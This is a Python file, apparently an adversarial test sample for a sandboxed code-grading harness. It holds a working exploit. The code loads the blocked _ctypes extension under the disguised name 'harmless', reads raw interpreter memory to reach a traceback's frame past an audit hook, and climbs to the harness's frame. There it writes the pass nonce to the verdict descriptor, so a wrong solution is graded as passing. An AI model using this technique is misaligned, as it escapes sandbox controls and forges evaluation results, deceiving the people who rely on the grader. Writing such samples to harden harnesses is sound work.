# Forgery: loads the denied _ctypes extension under another module name (harmless._ctypes: the import event
# carries that name; PyInit__ctypes is still found), then reads raw memory without any ctypes.* audit event
# (a Union of a pointer and a py_object) to get the frame behind a traceback (tb_frame, which the hook
# blocks as an attribute), walks to the harness's frame and writes nonce + b"P". Passes with a wrong solve.
# Relies on CPython's traceback layout (tb_frame right after tb_next, at offset 24 on 64-bit builds).
import _imp
import os
import sys
from importlib.machinery import EXTENSION_SUFFIXES, ModuleSpec


def _load_renamed(real_name, alias):
    for directory in sys.path:
        path = os.path.join(directory, real_name + EXTENSION_SUFFIXES[0])
        if os.path.isfile(path):
            return _imp.create_dynamic(ModuleSpec(alias + "." + real_name, None, origin=path))
    raise ImportError(real_name)


_ctypes = _load_renamed("_ctypes", "harmless")


class _Address(_ctypes._SimpleCData):
    _type_ = "P"


class _Object(_ctypes._SimpleCData):
    _type_ = "O"


class _Word(_ctypes.Union):
    _fields_ = [("address", _Address), ("pointer", _ctypes.POINTER(_Address)), ("object", _Object)]


def _object_at(address):
    word = _Word()
    word.address = address
    return word.object


def _pointer_at(address):
    word = _Word()
    word.address = address
    return word.pointer[0] or 0


def solve(x):
    try:
        raise RuntimeError
    except RuntimeError as error:
        traceback = error.__traceback__
    frame = _object_at(_pointer_at(id(traceback) + 24))
    while frame is not None:
        names = frame.f_locals
        if isinstance(names.get("nonce"), bytes) and isinstance(names.get("verdict_fd"), int):
            os.write(names["verdict_fd"], names["nonce"] + b"P")
            os._exit(0)
        frame = frame.f_back
    return 0
